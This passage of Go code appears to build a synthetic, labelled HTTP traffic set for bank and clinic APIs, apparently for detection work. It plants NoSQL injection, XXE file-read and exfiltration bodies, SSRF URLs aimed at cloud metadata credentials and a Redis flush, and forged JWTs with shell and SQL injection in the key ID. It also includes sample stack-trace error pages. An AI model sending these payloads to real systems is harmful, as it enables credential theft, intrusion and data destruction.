// bodies are planted separately.
var h2NoSQLForm = []string{
	"username[$ne]=x&password[$ne]=x",
	"email[$regex]=^adm&password[$ne]=1",
	"login[$gt]=&password[$gt]=",
	"user[$nin][]=guest&pass[$ne]=",
	"username=admin&password[$regex]=.*",
	"$where=sleep(5000)",
	"email[$exists]=true&password[$ne]=null",
}

var h2NoSQLJSON = []string{
	`{"email":{"$ne":null},"password":{"$ne":null}}`,
	`{"username":"admin","password":{"$gt":""}}`,
	`{"login":{"$regex":"^a.*"},"password":{"$ne":"x"}}`,
	`{"filter":{"$where":"this.balance > 0 || sleep(5000)"}}`,
	`{"patientId":"PT-10442","query":{"$where":"function(){ return true; }"}}`,
	`{"criteria":{"$expr":{"$function":{"body":"function(){ sleep(3000); return true }","args":[],"lang":"js"}}}}`,
	`{"user":{"email":{"$in":["a@bank.example","b@bank.example"]},"pin":{"$ne":"0000"}}}`,
	`{"credentials":[{"username":{"$ne":"1"},"password":{"$ne":"1"}}]}`,
}

// XXE bodies: external entities, parameter entities, OOB, SOAP, SVG, XInclude.
var h2XXEBodies = []string{
	`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><transfer><memo>&x;</memo><amount>10</amount></transfer>`,
	`<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE d [<!ENTITY % p SYSTEM "http://192.0.2.66/evil.dtd"> %p;]><statementRequest><account>ACC-1</account></statementRequest>`,
	`<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "php://filter/convert.base64-encode/resource=/etc/hosts"> <!ENTITY % dtd SYSTEM "http://evil.example/combine.dtd"> %dtd;]><foo>&send;</foo>`,
	`<?xml version="1.0"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><!DOCTYPE x [<!ENTITY e SYSTEM "file:///c:/windows/win.ini">]><soapenv:Body><GetBalance><acct>&e;</acct></GetBalance></soapenv:Body></soapenv:Envelope>`,
	`<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]><svg width="128" height="128" xmlns="http://www.w3.org/2000/svg"><text x="0" y="16">&xxe;</text></svg>`,
	`<?xml version="1.0"?><!DOCTYPE data [<!ENTITY % file SYSTEM "file:///proc/self/environ"><!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM 'http://evil.example/?x=%file;'>">%eval;%exfil;]><data>1</data>`,
	`<patient xmlns:xi="http://www.w3.org/2001/XInclude"><name><xi:include parse="text" href="file:///etc/passwd"/></name></patient>`,
	`<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>`,
	`<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE Appointment SYSTEM "http://169.254.169.254/latest/meta-data/"><Appointment><Date>2026-06-03</Date></Appointment>`,
	`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "expect://id">]><r>&x;</r>`,
}

func (g *h2Gen) genOther() {
	// command injection, traversal, SSTI, Log4Shell through the common
	// placement; each technique with its own field names.
	g.plant(h2Other, 22, h2CmdPayloads, []string{"host", "filename", "ip", "exportName", "domain", "target_host", "format"},
		[]int{h2LocJSON, h2LocQuery, h2LocForm, h2LocJSONDeep, h2LocQuery20, h2LocMultipart, h2LocGraphQL, h2LocJSONArray})
	g.plant(h2Other, 18, h2TraversalPayloads, []string{"file", "path", "template", "document", "attachment", "name", "download"},
		[]int{h2LocQuery, h2LocPath, h2LocJSON, h2LocForm, h2LocQuery20, h2LocJSONDeep})
	g.plant(h2Other, 22, h2SSTIPayloads, []string{"greeting", "template", "displayName", "subject", "message", "first_name", "bodyTemplate"},
		[]int{h2LocJSON, h2LocForm, h2LocJSONDeep, h2LocQuery, h2LocGraphQL, h2LocJSONArray, h2LocQuery20})
	g.plant(h2Other, 14, h2Log4jPayloads, []string{"username", "q", "deviceId", "referrer"},
		[]int{h2LocUA, h2LocAPIVersion, h2LocReferer, h2LocXFF, h2LocJSON, h2LocQuery, h2LocCookie, h2LocForm})

	// NoSQL operators, bracket syntax in forms and query strings
	paths := []string{"/api/v1/auth/login", "/v2/sessions", "/api/v1/patients/lookup", "/v2/users/search"}
	for j, p := range h2NoSQLForm {
		host := []string{h2Bank, h2Clin}[j%2]
		path := paths[j%len(paths)]
		hdr := http.Header{}
		var r h2Req
		if j%2 == 0 {
			hdr.Set("Content-Type", "application/x-www-form-urlencoded")
			r = h2Req{method: "POST", url: "https://" + host + path, hdr: hdr, body: h2EncodeBrackets(p)}
		} else {
			r = h2Req{method: "GET", url: "https://" + host + path + "?" + h2EncodeBrackets(p), hdr: g.auth(hdr)}
		}
		st, rh, rb := g.attackResponse()
		g.add([]string{h2Other}, r, st, rh, rb)
	}
	// NoSQL operators in JSON bodies
	for j, b := range h2NoSQLJSON {
		host := []string{h2Clin, h2Bank}[j%2]
		r := h2Req{method: "POST", url: "https://" + host + paths[(j+1)%len(paths)], hdr: h2JSONHdr(http.Header{}), body: b}
		st, rh, rb := g.attackResponse()
		g.add([]string{h2Other}, r, st, rh, rb)
	}
	// XXE bodies with XML, SOAP and SVG content types
	ctypes := []string{"application/xml", "text/xml; charset=utf-8", "application/soap+xml", "image/svg+xml"}
	xpaths := []string{"/api/v1/statements/import", "/soap/v1/accounts", "/api/v1/documents", "/v2/hl7/import"}
	for j, b := range h2XXEBodies {
		host := []string{h2Bank, h2Clin}[j%2]
		hdr := g.auth(http.Header{})
		ct := ctypes[j%len(ctypes)]
		if strings.Contains(b, "<svg") {
			ct = "image/svg+xml"
		}
		hdr.Set("Content-Type", ct)
		r := h2Req{method: "POST", url: "https://" + host + xpaths[j%len(xpaths)], hdr: hdr, body: b}
		st, rh, rb := g.attackResponse()
		g.add([]string{h2Other}, r, st, rh, rb)
	}
	// XXE in an SVG avatar uploaded as a multipart file
	bd := "----geckoformboundary4f2a"
	hdr := g.auth(http.Header{})
	hdr.Set("Content-Type", "multipart/form-data; boundary="+bd)
	body := "--" + bd + "\r\nContent-Disposition: form-data; name=\"avatar\"; filename=\"me.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n" +
		`<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>` +
		"\r\n--" + bd + "--\r\n"
	st, rh, rb := g.attackResponse()
	g.add([]string{h2Other}, h2Req{method: "POST", url: "https://" + h2Clin + "/api/v1/patients/PT-10442/avatar", hdr: hdr, body: body}, st, rh, rb)
}

// h2EncodeBrackets percent-encodes the brackets and $ of a bracket-syntax
// query the way browsers and HTTP libraries send it, half of the time.
func h2EncodeBrackets(s string) string {
	if len(s)%2 == 0 {
		return s
	}
	return strings.NewReplacer("[", "%5B", "]", "%5D", "$", "%24").Replace(s)
}

// ---------------------------------------------------------------------------
// SSRF targets

var h2SSRFURLs = []string{
	// loopback in many spellings
	"http://127.0.0.1:8080/admin",
	"http://localhost:2375/containers/json",
	"http://127.1/",
	"http://0177.0.0.1/",
	"http://2130706433/",
	"http://0x7f000001/",
	"http://0x7f.0x0.0x0.0x1/",
	"http://017700000001:9000/",
	"http://127.000.000.001/",
	"http://0/",
	"http://[::1]:6379/",
	"http://[::ffff:127.0.0.1]/",
	"http://[0:0:0:0:0:ffff:7f00:1]/",
	"http://[::]:80/",
	"HtTp://LOCALHOST:8500/v1/agent/self",
	// private and CGNAT networks
	"http://10.0.0.5:9200/_cat/indices",
	"http://172.16.3.4/server-status",
	"http://192.168.1.1/cgi-bin/luci",
	"http://100.64.0.10/",
	"http://10.1.2.3:8080/actuator/env",
	"https://172.31.255.254:8443/",
	// cloud metadata: AWS, GCP, Azure, ECS, Alibaba, IPv6 IMDS, encodings
	"http://169.254.169.254/latest/meta-data/iam/security-credentials/",
	"http://169.254.169.254/computeMetadata/v1/project/project-id",
	"http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
	"http://169.254.169.254/metadata/instance?api-version=2021-02-01",
	"http://[fd00:ec2::254]/latest/meta-data/",
	"http://2852039166/latest/meta-data/",
	"http://0xa9fea9fe/latest/user-data",
	"http://0251.0376.0251.0376/latest/",
	"http://169.254.43518/latest/meta-data/",
	"http://[::ffff:a9fe:a9fe]/latest/meta-data/",
	"http://[::ffff:169.254.169.254]/latest/api/token",
	"http://169.254.170.2/v2/credentials/",
	"http://100.100.100.200/latest/meta-data/",
	"http://instance-data/latest/meta-data/",
	// userinfo and parser-confusion tricks
	"https://cdn.bank.example@169.254.169.254/latest/meta-data/",
	"http://api.clinic.example@127.0.0.1:8500/v1/kv/?recurse",
	"http://svc:hunter2@10.0.8.12/",
	"http://127.0.0.1\\@www.bank.example/",
	"//169.254.169.254/latest/meta-data/hostname",
	// DNS names that resolve inside
	"http://127.0.0.1.nip.io:8080/",
	"http://169.254.169.254.sslip.io/latest/meta-data/",
	"http://localtest.me/",
	"http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
	"http://localhost.localdomain:15000/config_dump",
	// dangerous schemes
	"file:///etc/passwd",
	"file://localhost/c:/windows/win.ini",
	"gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
	"gopher://10.0.0.8:25/_HELO%20evil.example",
	"dict://127.0.0.1:11211/stats",
	"ldap://10.0.0.4:389/dc=bank,dc=internal",
	"ldap://localhost:389/",
}

// Host-valued (not URL-valued) targets.
var h2SSRFHosts = []string{"169.254.169.254", "127.0.0.1:6379", "10.20.0.7", "metadata.google.internal", "[::1]", "192.168.0.10:5432", "0x7f000001", "localhost"}

func (g *h2Gen) genSSRF() {
	type site struct {
		host, method, path, field string
		loc                       int
	}
	sites := []site{
		{h2Bank, "POST", "/api/v1/webhooks", "webhookUrl", h2LocJSON},
		{h2Clin, "POST", "/v2/integrations/callbacks", "callback_url", h2LocJSON},
		{h2Bank, "GET", "/api/v1/link-preview", "url", h2LocQuery},
		{h2Clin, "PATCH", "/api/v1/patients/PT-10442/profile", "avatarUrl", h2LocJSONDeep},
		{h2Bank, "POST", "/v2/statements/import", "source_url", h2LocForm},
		{h2Clin, "GET", "/api/v1/documents/fetch", "imageUrl", h2LocQuery20},
		{h2Bank, "POST", "/graphql", "logoUrl", h2LocGraphQL},
		{h2Clin, "POST", "/v2/fhir/import", "feedUrl", h2LocJSONArray},
		{h2Bank, "GET", "/api/v1/oauth/authorize", "redirect_uri", h2LocDouble},
		{h2Clin, "POST", "/api/v1/reports/pdf", "pdfSource", h2LocMultipart},
	}
	all := append(append([]string{}, h2SSRFURLs...), h2SSRFURLs[:14]...)
	for j, u := range all {
		s := sites[(j+j/len(h2SSRFURLs))%len(sites)]
		var r h2Req
		hdr := g.auth(http.Header{})
		switch s.loc {
		case h2LocJSON:
			r = h2Req{method: s.method, url: "https://" + s.host + s.path, hdr: h2JSONHdr(hdr),
				body: h2J(h2M{s.field: u, "events": []string{"transfer.completed", "card.frozen"}, "active": true})}
		case h2LocJSONDeep:
			r = h2Req{method: s.method, url: "https://" + s.host + s.path, hdr: h2JSONHdr(hdr),
				body: h2J(h2M{"profile": h2M{"media": h2M{s.field: u, "alt": "profile photo"}}})}
		case h2LocJSONArray:
			r = h2Req{method: s.method, url: "https://" + s.host + s.path, hdr: h2JSONHdr(hdr),
				body: h2J(h2M{"sources": []h2M{{s.field: "https://fhir.example.org/r4/Patient"}, {s.field: u}}})}
		case h2LocGraphQL:
			r = h2Req{method: s.method, url: "https://" + s.host + s.path, hdr: h2JSONHdr(hdr),
				body: h2J(h2M{"query": "mutation UpdateBrand($input: BrandInput!) { updateBrand(input: $input) { id } }", "variables": h2M{"input": h2M{s.field: u, "name": "Acme GmbH"}}})}
		case h2LocForm:
			hdr.Set("Content-Type", "application/x-www-form-urlencoded")
			r = h2Req{method: s.method, url: "https://" + s.host + s.path, hdr: hdr, body: "format=ofx&" + s.field + "=" + h2Q(u)}
		case h2LocQuery:
			r = h2Req{method: s.method, url: "https://" + s.host + s.path + "?" + s.field + "=" + h2Q(u), hdr: hdr}
		case h2LocQuery20:
			r = h2Req{method: s.method, url: "https://" + s.host + s.path + "?w=320&" + s.field + "=" + h2Q20(u), hdr: hdr}
		case h2LocDouble:
			r = h2Req{method: s.method, url: "https://" + s.host + s.path + "?client_id=web&response_type=code&" + s.field + "=" + h2Q(h2Q20(u)), hdr: hdr}
		case h2LocMultipart:
			b := "----formdata-undici-0451"
			hdr.Set("Content-Type", "multipart/form-data; boundary="+b)
			r = h2Req{method: s.method, url: "https://" + s.host + s.path, hdr: hdr,
				body: "--" + b + "\r\nContent-Disposition: form-data; name=\"" + s.field + "\"\r\n\r\n" + u + "\r\n--" + b + "--\r\n"}
		}
		st, rh, rb := g.attackResponse()
		g.add([]string{h2SSRF}, r, st, rh, rb)
	}
	// host-valued parameters of a diagnostics or integration endpoint
	for j, h := range h2SSRFHosts {
		host := []string{h2Bank, h2Clin}[j%2]
		field := []string{"host", "hostname", "smtpHost", "db_host"}[j%4]
		r := h2Req{method: "POST", url: "https://" + host + "/api/v1/integrations/test-connection", hdr: h2JSONHdr(g.auth(http.Header{})),
			body: h2J(h2M{field: h, "port": 443, "timeoutMs": 3000})}
		st, rh, rb := g.attackResponse()
		g.add([]string{h2SSRF}, r, st, rh, rb)
	}
}

// ---------------------------------------------------------------------------
// JWT attacks

func (g *h2Gen) genJWT() {
	now := h2Base.Unix()
	claims := func(j int) h2M {
		sub := fmt.Sprintf("usr_%06d", 4000+j*17)
		switch j % 4 {
		case 0:
			return h2M{"sub": sub, "role": "admin", "iat": now - 600, "exp": now + 3600, "iss": "https://auth.bank.example"}
		case 1:
			return h2M{"sub": sub, "scope": "accounts:read accounts:write admin", "iat": now - 60, "exp": now + 7200, "iss": "https://bank-prod.eu.auth0.com/", "aud": "https://api.bank.example"}
		case 2:
			return h2M{"sub": sub, "iat": now - 120, "exp": now + 900, "iss": "https://id.clinic.example/realms/patients", "realm_access": h2M{"roles": []string{"practitioner", "admin"}}}
		default:
			return h2M{"sub": sub, "groups": []string{"Everyone", "ClinicAdmins"}, "iat": now - 30, "exp": now + 3600, "iss": "https://clinic.okta.example/oauth2/default", "cid": "0oa1b2c3d4"}
		}
	}
	var toks []string
	// alg none in several spellings, with and without the trailing dot
	for j, alg := range []string{"none", "None", "NONE", "nOnE", "none", "None"} {
		t := h2B64u(h2JEsc(h2M{"alg": alg, "typ": "JWT"})) + "." + h2B64u(h2JEsc(claims(j))) + "."
		if j == 4 {
			t = strings.TrimSuffix(t, ".")
		}
		toks = append(toks, t)
	}
	toks = append(toks, h2B64u(`{"typ":"JWT","alg":"none","kid":"2026-05-rsa-01"}`)+"."+h2B64u(h2JEsc(claims(7)))+".")
	// stripped (empty) signatures with a real algorithm
	for j, alg := range []string{"HS256", "RS256", "ES256", "PS256", "RS512", "HS512", "EdDSA"} {
		toks = append(toks, h2Token(h2M{"alg": alg, "typ": "JWT"}, claims(j+1), ""))
	}
	// expired tokens (answered 2xx below), several vendors and ages
	for j, age := range []time.Duration{time.Minute * 5, time.Hour, 26 * time.Hour, 2 * time.Minute, 5 * 24 * time.Hour, 6 * time.Hour, 30 * 24 * time.Hour, 7 * 24 * time.Hour, 90 * 24 * time.Hour, 400 * 24 * time.Hour, 30 * time.Second, 12 * time.Hour, 3 * time.Hour, 48 * time.Hour, 15 * time.Minute, 365 * 24 * time.Hour} {
		c := claims(j)
		exp := h2Base.Add(-age).Unix()
		c["exp"], c["iat"] = exp, exp-3600
		switch j % 3 {
		case 0:
			toks = append(toks, h2HS256(h2M{"alg": "HS256", "typ": "JWT"}, c, "h2-benign-hmac-secret-not-real"))
		case 1:
			toks = append(toks, h2Token(h2M{"alg": "RS256", "typ": "JWT", "kid": "2026-05-rsa-01"}, c, h2FakeSig(fmt.Sprint("exp", j), 256)))
		default:
			toks = append(toks, h2Token(h2M{"alg": "ES384", "typ": "at+jwt", "kid": "ec-p384-a"}, c, h2FakeSig(fmt.Sprint("exp", j), 96)))
		}
	}
	// not yet valid (nbf / iat far in the future)
	for j := 0; j < 4; j++ {
		c := claims(j)
		c["nbf"] = h2Base.Add(time.Duration(j+1) * 240 * time.Hour).Unix()
		c["exp"] = h2Base.Add(time.Duration(j+2) * 240 * time.Hour).Unix()
		toks = append(toks, h2Token(h2M{"alg": "RS256", "typ": "JWT", "kid": "2026-05-rsa-01"}, c, h2FakeSig(fmt.Sprint("nbf", j), 256)))
	}
	// kid injection: paths, SQL, shell
	kids := []string{
		"../../../../../../dev/null",
		"/proc/sys/kernel/randomize_va_space",
		"../../../../../../../../etc/hostname",
		"..\\..\\..\\..\\windows\\win.ini",
		"../../public/css/app.css",
		"x' UNION SELECT 'aGVsbG8=' -- ",
		"1' OR '1'='1",
		"key1'; DROP TABLE signing_keys;--",
		"nokey' UNION SELECT 'secret' FROM dual--",
		"key.pem|whoami",
		"$(curl http://192.0.2.66/k)",
		"`id`",
		"k1; sleep 5",
		"/dev/null",
		"../../../../../../../../../proc/self/cwd/config/secrets.json",
	}
	for j, kid := range kids {
		toks = append(toks, h2HS256(h2M{"alg": "HS256", "typ": "JWT", "kid": kid}, claims(j), ""))
	}
	// jku / x5u to untrusted or internal hosts
	for j, u := range []string{
		"https://attacker.example/.well-known/jwks.json",
		"http://127.0.0.1:8080/jwks.json",
		"http://169.254.169.254/latest/meta-data/jwks",
		"https://auth.bank.example@evil.example/jwks.json",
		"https://auth.bank.example.evil.example/.well-known/jwks.json",
		"https://raw.githubusercontent.com/h4x0r/keys/main/jwks.json",
		"http://10.0.3.7/keys",
	} {
		toks = append(toks, h2Token(h2M{"alg": "RS256", "typ": "JWT", "kid": "attacker-1", "jku": u}, claims(j), h2FakeSig(u, 256)))
	}
	for j, u := range []string{"https://evil.example/cert.pem", "http://192.168.10.5/pki/signing.crt", "https://pastebin.example/raw/x5u"} {
		toks = append(toks, h2Token(h2M{"alg": "RS256", "x5u": u}, claims(j+2), h2FakeSig(u, 256)))
	}
	// embedded jwk (CVE-2018-0114 style), RSA and EC
	toks = append(toks,
		h2Token(h2M{"alg": "RS256", "typ": "JWT", "jwk": h2M{"kty": "RSA", "e": "AQAB", "kid": "attacker", "use": "sig", "n": h2FakeSig("n1", 256)}}, claims(1), h2FakeSig("jwk1", 256)),
		h2Token(h2M{"alg": "ES256", "jwk": h2M{"kty": "EC", "crv": "P-256", "x": h2FakeSig("x", 32), "y": h2FakeSig("y", 32)}}, claims(2), h2FakeSig("jwk2", 64)),
		h2Token(h2M{"alg": "RS512", "kid": "2026-05-rsa-01", "jwk": h2M{"kty": "RSA", "e": "AQAB", "n": h2FakeSig("n3", 512)}}, claims(3), h2FakeSig("jwk3", 512)),
	)
	paths := []struct{ host, method, path string }{
		{h2Bank, "GET", "/api/v1/accounts"},
		{h2Bank, "GET", "/v2/admin/users"},
		{h2Clin, "GET", "/api/v1/patients/PT-10442/records"},
		{h2Bank, "POST", "/api/v1/transfers"},
		{h2Clin, "GET", "/v2/practitioners/me/schedule"},
		{h2Bank, "DELETE", "/api/v1/payees/PY-7781"},
		{h2Clin, "POST", "/graphql"},
	}
	schemes := []string{"Bearer ", "Bearer ", "bearer ", "Bearer ", "BEARER "}
	for j, tok := range toks {
		p := paths[j%len(paths)]
		hdr := http.Header{}
		hdr.Set("Authorization", schemes[j%len(schemes)]+tok)
		r := h2Req{method: p.method, url: "https://" + p.host + p.path, hdr: hdr}
		if p.method == "POST" {
			hdr.Set("Content-Type", "application/json")
			if p.path == "/graphql" {
				r.body = `{"query":"{ me { id email roles } }"}`
			} else {
				r.body = `{"fromAccount":"ACC-88213","toIban":"DE02120300000000202051","amount":"250.00","currency":"EUR"}`
			}
		}
		status := []int{200, 200, 201, 200, 204}[j%5]
		rb := `{"data":{"id":"` + fmt.Sprintf("r_%05d", j) + `","status":"ok"}}`
		if status == 204 {
			rb = ""
		}
		g.add([]string{h2JWT}, r, status, nil, rb)
	}
}

// ---------------------------------------------------------------------------
// Verbose errors

// Stack traces, SQL errors and debug pages of many stacks.
var h2VerboseBodies = []struct{ ctype, body string }{
	// Go
	{"text/plain; charset=utf-8", "panic: runtime error: invalid memory address or nil pointer dereference\n[signal SIGSEGV: segmentation violation code=0x1 addr=0x18 pc=0x6d5f2a]\n\ngoroutine 847 [running]:\ngithub.com/acme/ledger/internal/transfer.(*Service).Create(0x0, {0xa3c0e8, 0xc0003a2f00}, 0xc000412000)\n\t/src/internal/transfer/service.go:118 +0x4a\nnet/http.HandlerFunc.ServeHTTP(0xc0001b6060, {0xa3b6f0, 0xc0002e41c0}, 0xc000412000)\n\t/usr/local/go/src/net/http/server.go:2171 +0x29\n"},
	{"application/json", `{"error":"runtime error: index out of range [3] with length 3","stack":"goroutine 19 [running]:\nruntime/debug.Stack()\n\t/usr/local/go/src/runtime/debug/stack.go:24 +0x5e\nmain.recoverer.func1()\n\t/app/cmd/api/middleware.go:41 +0x65\npanic({0x8a2b40?, 0xc0000a8018?})\n\t/usr/local/go/src/runtime/panic.go:770 +0x132\n"}`},
	// Java / Spring
	{"application/json", `{"timestamp":"2026-06-01T07:42:11.532+00:00","status":500,"error":"Internal Server Error","trace":"java.lang.NullPointerException: Cannot invoke \"com.bank.core.Account.getIban()\" because \"acct\" is null\n\tat com.bank.api.TransferController.create(TransferController.java:88)\n\tat java.base/jdk.internal.reflect.DirectMethodHandleAccessor.invoke(DirectMethodHandleAccessor.java:103)\n\tat org.springframework.web.method.support.InvocableHandlerMethod.doInvoke(InvocableHandlerMethod.java:255)\n","message":"No message available","path":"/api/v1/transfers"}`},
	{"text/html;charset=UTF-8", "<html><body><h1>Whitelabel Error Page</h1><p>This application has no explicit mapping for /error, so you are seeing this as a fallback.</p><div id='created'>Mon Jun 01 07:44:02 UTC 2026</div><div>There was an unexpected error (type=Internal Server Error, status=500).</div><div style='white-space:pre-wrap;'>org.springframework.dao.DataIntegrityViolationException: could not execute statement\n\tat org.springframework.orm.jpa.vendor.HibernateJpaDialect.convertHibernateAccessException(HibernateJpaDialect.java:276)\n\tat com.clinic.booking.AppointmentService.book(AppointmentService.java:64)\n</div></body></html>"},
	{"text/plain", "javax.servlet.ServletException: java.lang.IllegalStateException: Session already invalidated\n\tat org.apache.catalina.core.StandardWrapperValve.invoke(StandardWrapperValve.java:228)\n\tat org.apache.catalina.core.StandardContextValve.invoke(StandardContextValve.java:97)\nCaused by: java.lang.IllegalStateException: Session already invalidated\n\tat org.apache.catalina.session.StandardSession.getAttribute(StandardSession.java:1165)\n\t... 24 more\n"},
	// Python
	{"text/plain; charset=utf-8", "Traceback (most recent call last):\n  File \"/usr/local/lib/python3.12/site-packages/flask/app.py\", line 1473, in wsgi_app\n    response = self.full_dispatch_request()\n  File \"/srv/clinic/api/appointments.py\", line 57, in book_slot\n    slot = slots[int(request.json['slotId'])]\nKeyError: 'slotId'\n"},
	{"application/json", `{"detail":"Traceback (most recent call last):\n  File \"/app/main.py\", line 88, in get_patient\n    return db.query(Patient).filter_by(id=pid).one()\n  File \"/usr/lib/python3/dist-packages/sqlalchemy/orm/query.py\", line 2870, in one\n    raise orm_exc.NoResultFound(\"No row was found for one()\")\nsqlalchemy.orm.exc.NoResultFound: No row was found for one()\n"}`},
	{"text/html; charset=utf-8", "<!DOCTYPE html><html lang=\"en\"><head><title>KeyError at /api/v1/intake/</title></head><body><div id=\"summary\"><h1>KeyError at /api/v1/intake/</h1><pre class=\"exception_value\">'insurance_id'</pre><table class=\"meta\"><tr><th>Django Version:</th><td>5.0.6</td></tr><tr><th>Python Executable:</th><td>/usr/local/bin/python</td></tr></table></div><div id=\"explanation\"><p>You're seeing this error because you have <code>DEBUG = True</code> in your Django settings file. Change that to <code>False</code>, and Django will display a standard page generated by the handler for this status code.</p></div></body></html>"},
	{"text/html; charset=utf-8", "<!doctype html><html><head><title>TypeError: unsupported operand type(s) for +: 'int' and 'str' // Werkzeug Debugger</title></head><body><div class=\"debugger\"><h1>TypeError</h1><div class=\"detail\"><p class=\"errormsg\">TypeError: unsupported operand type(s) for +: 'int' and 'str'</p></div><h2 class=\"traceback\">Traceback <em>(most recent call last)</em></h2><div class=\"traceback\"><ul><li><div class=\"frame\" id=\"frame-140\"><h4>File <cite class=\"filename\">\"/srv/bank/fx.py\"</cite>, line <em class=\"line\">31</em>, in <code class=\"function\">quote</code></h4></div></li></ul></div><script>var CONSOLE_MODE = false, EVALEX = true, SECRET = \"Xk3mQ9pLw2\";</script></div></body></html>"},
	// .NET
	{"text/plain; charset=utf-8", "System.NullReferenceException: Object reference not set to an instance of an object.\n   at Bank.Api.Controllers.AccountsController.GetBalance(Guid accountId) in C:\\build\\src\\Bank.Api\\Controllers\\AccountsController.cs:line 57\n   at lambda_method12(Closure , Object , Object[] )\n   at Microsoft.AspNetCore.Mvc.Infrastructure.ActionMethodExecutor.SyncObjectResultExecutor.Execute(IActionResultTypeMapper mapper, ObjectMethodExecutor executor, Object controller, Object[] arguments)\n"},
	{"application/problem+json", `{"type":"https://tools.ietf.org/html/rfc9110#section-15.6.1","title":"An error occurred while processing your request.","status":500,"detail":"System.InvalidOperationException: Sequence contains no elements\r\n   at System.Linq.ThrowHelper.ThrowNoElementsException()\r\n   at Clinic.Scheduling.SlotFinder.Next(DateTime from) in /src/Clinic.Scheduling/SlotFinder.cs:line 112\r\n","traceId":"00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-00"}`},
	{"text/html; charset=utf-8", "<html><head><title>Runtime Error</title></head><body bgcolor=\"white\"><span><H1>Server Error in '/' Application.<hr width=100% size=1 color=silver></H1><h2> <i>Input string was not in a correct format.</i> </h2></span><b> Exception Details: </b>System.FormatException: Input string was not in a correct format.<br><br><b>Stack Trace:</b><pre>[FormatException: Input string was not in a correct format.]\n   System.Number.StringToNumber(String str, NumberStyles options) +14306143\n   Bank.Web.Statements.Page_Load(Object sender, EventArgs e) in d:\\web\\Statements.aspx.cs:42\n</pre><b>Version Information:</b>&nbsp;Microsoft .NET Framework Version:4.0.30319; ASP.NET Version:4.8.4718.0</body></html>"},
	// Node.js / Express
	{"text/html; charset=utf-8", "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n<title>Error</title>\n</head>\n<body>\n<pre>TypeError: Cannot read properties of undefined (reading &#39;iban&#39;)<br> &nbsp; &nbsp;at /srv/app/routes/payees.js:41:23<br> &nbsp; &nbsp;at Layer.handle [as handle_request] (/srv/app/node_modules/express/lib/router/layer.js:95:5)<br> &nbsp; &nbsp;at next (/srv/app/node_modules/express/lib/router/route.js:149:13)</pre>\n</body>\n</html>\n"},
	{"application/json", `{"statusCode":500,"error":"Internal Server Error","message":"ECONNREFUSED 10.0.4.12:5432","stack":"Error: connect ECONNREFUSED 10.0.4.12:5432\n    at TCPConnectWrap.afterConnect [as oncomplete] (node:net:1607:16)\n    at process.processTicksAndRejections (node:internal/process/task_queues:82:21)"}`},
	{"application/json", `{"errors":[{"message":"Cannot return null for non-nullable field Patient.dateOfBirth.","locations":[{"line":3,"column":5}],"path":["patient","dateOfBirth"],"extensions":{"code":"INTERNAL_SERVER_ERROR","exception":{"stacktrace":["Error: Cannot return null for non-nullable field Patient.dateOfBirth.","    at completeValue (/app/node_modules/graphql/execution/execute.js:605:13)","    at /app/node_modules/graphql/execution/execute.js:510:9"]}}}],"data":null}`},
	// PHP / Laravel
	{"text/html; charset=UTF-8", "<br />\n<b>Fatal error</b>:  Uncaught Error: Call to a member function format() on null in /var/www/html/api/appointments.php:73\nStack trace:\n#0 /var/www/html/api/index.php(41): AppointmentController-&gt;show('8812')\n#1 {main}\n  thrown in <b>/var/www/html/api/appointments.php</b> on line <b>73</b><br />\n"},
	{"application/json", `{"message":"Undefined array key \"amount\"","exception":"ErrorException","file":"/var/www/bank/app/Http/Controllers/TransferController.php","line":52,"trace":[{"file":"/var/www/bank/vendor/laravel/framework/src/Illuminate/Foundation/Bootstrap/HandleExceptions.php","line":255,"function":"handleError","class":"Illuminate\\Foundation\\Bootstrap\\HandleExceptions","type":"->"}]}`},
	{"text/plain", "PHP Warning:  PDO::__construct(): php_network_getaddresses: getaddrinfo for db-primary failed: Name or service not known in /srv/www/lib/Db.php on line 19\nPHP Fatal error:  Uncaught PDOException: SQLSTATE[HY000] [2002] php_network_getaddresses: getaddrinfo for db-primary failed in /srv/www/lib/Db.php:19\nStack trace:\n#0 /srv/www/lib/Db.php(19): PDO->__construct('mysql:host=db-p...', 'clinic', Object(SensitiveParameterValue))\n#1 {main}"},
	// Ruby / Rails
	{"text/plain; charset=utf-8", "NoMethodError (undefined method `name' for nil:NilClass):\n  app/controllers/appointments_controller.rb:23:in `show'\n  actionpack (7.1.3) lib/action_controller/metal/basic_implicit_render.rb:6:in `send_action'\n  actionpack (7.1.3) lib/abstract_controller/base.rb:224:in `process_action'\n"},
	{"text/html; charset=utf-8", "<!DOCTYPE html><html><head><title>Action Controller: Exception caught</title></head><body><header><h1>ActiveRecord::RecordNotFound in Api::V1::PatientsController#show</h1></header><div id=\"container\"><h2>Couldn't find Patient with 'id'=99999</h2><div class=\"source\"><div class=\"info\">Extracted source (around line <strong>#14</strong>):</div></div><p><code>Rails.root: /home/deploy/clinic/releases/20260529</code></p><div id=\"traces\"><pre>app/controllers/api/v1/patients_controller.rb:14:in `show'</pre></div></div></body></html>"},
